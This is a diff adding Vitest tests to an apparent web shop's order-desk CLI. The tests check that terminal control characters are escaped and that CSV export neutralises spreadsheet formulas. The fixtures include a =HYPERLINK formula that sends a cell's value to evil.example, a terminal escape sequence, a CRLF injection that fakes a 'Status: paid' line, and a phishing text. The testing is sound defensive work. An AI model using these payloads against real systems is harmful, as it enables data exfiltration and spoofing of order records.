@@ -1,4 +1,7 @@
+import { mkdtempSync, readFileSync } from "node:fs";
+import os from "node:os";
 import path from "node:path";
+import { parse } from "csv-parse/sync";
 import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
 import { type DB, openDatabase } from "~/db/db.server";
 import account from "~/locales/account/sl";
@@ -20,6 +23,9 @@ import { runOrders } from "../support/orders-cli";
 const PHISHING = "Vaš račun je zaklenjen, odklenite ga na https://lumera-pomoc.example/odkleni";
 const HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"Refund")&"@x.com"';
 const ESC_NAME = "Ana\u001b[2J";
+/** A control character other than the line feed that ends each line the desk prints. */
+// eslint-disable-next-line no-control-regex -- finding control characters is the point
+const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
 
 /** Text of an HTML element as React escapes it, back to plain text. */
 const unescape = (html: string | undefined) =>
@@ -204,6 +210,48 @@ for (const server of inject("servers")) {
       expect(links).toHaveLength(1);
       expect(links[0]).toMatch(new RegExp(`^http://si\\.lumera\\.localhost:\\d+/profile/orders/${order.number}$`));
       expect(mail!.html).not.toMatch(/href="[^"]*lumera-pomoc/);
+    });
+
+    describe("the order desk prints old data escaped and exports it neutralised", () => {
+      let order: { id: number; number: string; created_at: string };
+      const storedEmail = `${HYPERLINK}\u001b[2J`;
+
+      beforeAll(async () => {
+        const { guestWith, placeOrder } = shop();
+        ({ order } = await placeOrder(await guestWith(product, 1), { payment: "cod" }));
+        // what an order placed before the rules could hold, written as old data would be
+        const address = { ...ADDRESS, firstName: ESC_NAME, lastName: "Novak\r\nStatus: paid · payment: bank", phone: null };
+        await db
+          .updateTable("shop_order")
+          .set({ email: storedEmail, address: JSON.stringify(address) })
+          .where("id", "=", order.id)
+          .execute();
+      });
+
+      it("orders show and orders list write ESC, CR and LF as \\x1b, \\r and \\n: nothing reaches the terminal raw", async () => {
+        const shown = await runOrders(server, ["show", order.number]);
+        expect(shown.code, shown.stderr).toBe(0);
+        expect(shown.stdout).not.toMatch(RAW_CONTROL);
+        const lines = shown.stdout.split("\n");
+        expect(lines.filter((l) => l.startsWith("Status:"))).toHaveLength(1);
+        expect(lines.find((l) => l.startsWith("Address:"))).toContain("Ana\\x1b[2J Novak\\r\\nStatus: paid · payment: bank");
+        expect(lines.find((l) => l.startsWith("E-mail:"))).toContain(`${HYPERLINK}\\x1b[2J`);
+
+        const listed = await runOrders(server, ["list", "--since", order.created_at]);
+        expect(listed.code, listed.stderr).toBe(0);
+        expect(listed.stdout).not.toMatch(RAW_CONTROL);
+        expect(listed.stdout.split("\n").find((l) => l.startsWith(order.number))).toContain(`${HYPERLINK}\\x1b[2J`);
+      });
+
+      it("orders export writes the formula as text: the cell begins with ' and a spreadsheet does not run it", async () => {
+        const file = path.join(mkdtempSync(path.join(os.tmpdir(), "desk-text-")), "orders.csv");
+        const exported = await runOrders(server, ["export", "--out", file, "--since", order.created_at]);
+        expect(exported.code, exported.stderr).toBe(0);
+        const rows: Record<string, string>[] = parse(readFileSync(file), { columns: true });
+        const row = rows.find((r) => r.number === order.number);
+        expect(row?.email).toBe(`'${storedEmail}`);
+        for (const r of rows) for (const cell of Object.values(r)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+      });
     });
   });
 }
